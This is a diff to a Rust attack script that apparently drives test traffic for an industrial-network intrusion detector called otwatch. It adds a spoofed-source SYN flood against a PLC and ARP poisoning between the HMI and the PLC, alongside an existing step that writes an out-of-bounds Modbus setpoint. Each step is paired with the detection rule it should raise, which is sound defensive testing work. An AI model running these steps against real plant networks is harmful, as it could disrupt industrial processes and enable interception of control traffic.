@@ -1,7 +1,7 @@
 //! The attack script: what an intruder on the plant network (or on a compromised engineering
 //! workstation) does, step by step, each step named with what otwatch should raise.
 
-use std::net::SocketAddr;
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 use std::time::Duration;
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
@@ -9,7 +9,8 @@ use tokio::time::{sleep, timeout};
 use tokio_modbus::client::{Client, Reader, Writer};
 use tokio_modbus::prelude::{ReadCode, Request, Slave, SlaveContext};
 
-use super::peers::{Link, ask, connect, connect_tcp};
+use super::crafted;
+use super::peers::{Link, ask, connect, connect_tcp, inject};
 
 /// One step of the attack: what it does and the rule it should raise.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -66,6 +67,16 @@ pub const STEPS: &[Step] = &[
         from_engineering: false,
     },
     Step {
+        what: "SYN flood from spoofed sources",
+        rule: "dos.syn_flood",
+        from_engineering: false,
+    },
+    Step {
+        what: "ARP poisoning between the HMI and the PLC",
+        rule: "spoof.arp",
+        from_engineering: false,
+    },
+    Step {
         what: "high setpoint far beyond the vessel, from the engineering workstation",
         rule: "policy.setpoint_out_of_bounds",
         from_engineering: true,
@@ -93,11 +104,13 @@ pub async fn crash(intruder: &Link, plc: SocketAddr, say: &(dyn Fn(&Step) + Sync
 }
 
 /// Plays every step against `plc`: the intruder's steps from `intruder`, the setpoint change
-/// from `engineering`. `say` hears each step as it starts.
+/// from `engineering`; the ARP poisoning sits between `plc` and the HMI at `hmi`. `say` hears
+/// each step as it starts.
 pub async fn attack(
     intruder: &Link,
     engineering: &Link,
     plc: SocketAddr,
+    hmi: IpAddr,
     say: &(dyn Fn(&Step) + Sync),
 ) {
     let step = |i: usize| {
@@ -134,13 +147,79 @@ pub async fn attack(
     }
     step(7);
     flood(intruder, plc, 300).await;
+    step(8);
+    syn_flood(intruder, plc).await;
+    step(9);
+    poison(intruder, plc.ip(), hmi).await;
     if let Ok(mut ctx) = connect(engineering, plc, 1).await {
-        step(8);
+        step(10);
         let _ = ask(ctx.write_single_register(0, 5000)).await;
         // Put it back, as the engineer would on noticing.
         let _ = ask(ctx.write_single_register(0, 800)).await;
         let _ = ask(ctx.disconnect()).await;
     }
+}
+
+/// 2,000 SYNs to `plc` within about a second, each from another (spoofed) address.
+async fn syn_flood(intruder: &Link, plc: SocketAddr) {
+    // Into the tap, frames carry each host's own Ethernet address; raw on a veth, the PLC's
+    // is not known here, and a broadcast frame reaches the capture all the same (the PLC's
+    // stack drops it rather than answering the spoofed sources).
+    let plc_mac = match &intruder.tap {
+        Some(_) => super::tap::mac(plc.ip()),
+        None => [0xff; 6],
+    };
+    let frames = crafted::syn_flood(plc, plc_mac, 2_000);
+    for burst in frames.chunks(200) {
+        inject(intruder, burst.to_vec(), Duration::ZERO).await;
+        sleep(Duration::from_millis(80)).await;
+    }
+}
+
+/// Gratuitous ARP replies from the intruder's Ethernet address: first its own address, then
+/// the PLC's and the HMI's, as a man in the middle does to both caches.
+async fn poison(intruder: &Link, plc: IpAddr, hmi: IpAddr) {
+    let (IpAddr::V4(plc), IpAddr::V4(hmi), Some(IpAddr::V4(own))) = (plc, hmi, intruder.bind)
+    else {
+        return;
+    };
+    let mac = crafted::INTRUDER_MAC;
+    inject(
+        intruder,
+        vec![crafted::arp_announce(mac, own)],
+        Duration::from_millis(300),
+    )
+    .await;
+    for _ in 0..3 {
+        let frames = vec![
+            crafted::arp_announce(mac, plc),
+            crafted::arp_announce(mac, hmi),
+        ];
+        inject(intruder, frames, Duration::from_millis(300)).await;
+    }
+    // Put the caches right again, as arpspoof does on leaving: on a real segment the PLC
+    // would otherwise answer the HMI and the intruder at an address nobody has.
+    let restore: Vec<Vec<u8>> = [own, hmi]
+        .into_iter()
+        .filter_map(|ip| true_mac(intruder, ip).map(|m| crafted::arp_announce(m, ip)))
+        .collect();
+    inject(intruder, restore, Duration::from_millis(100)).await;
+}
+
+/// The Ethernet address host `ip` on the intruder's side really has: the tap's for it, or
+/// the captured interface's (every outside host of the namespace layout sits on it).
+fn true_mac(link: &Link, ip: Ipv4Addr) -> Option<[u8; 6]> {
+    if link.tap.is_some() {
+        return Some(super::tap::mac(IpAddr::V4(ip)));
+    }
+    let iface = link.wire.as_deref()?;
+    let text = std::fs::read_to_string(format!("/sys/class/net/{iface}/address")).ok()?;
+    let mut mac = [0u8; 6];
+    let mut parts = text.trim().split(':');
+    for byte in &mut mac {
+        *byte = u8::from_str_radix(parts.next()?, 16).ok()?;
+    }
+    Some(mac)
 }
 
 /// Writes `count` read requests at once, without waiting for answers, then reads what comes.
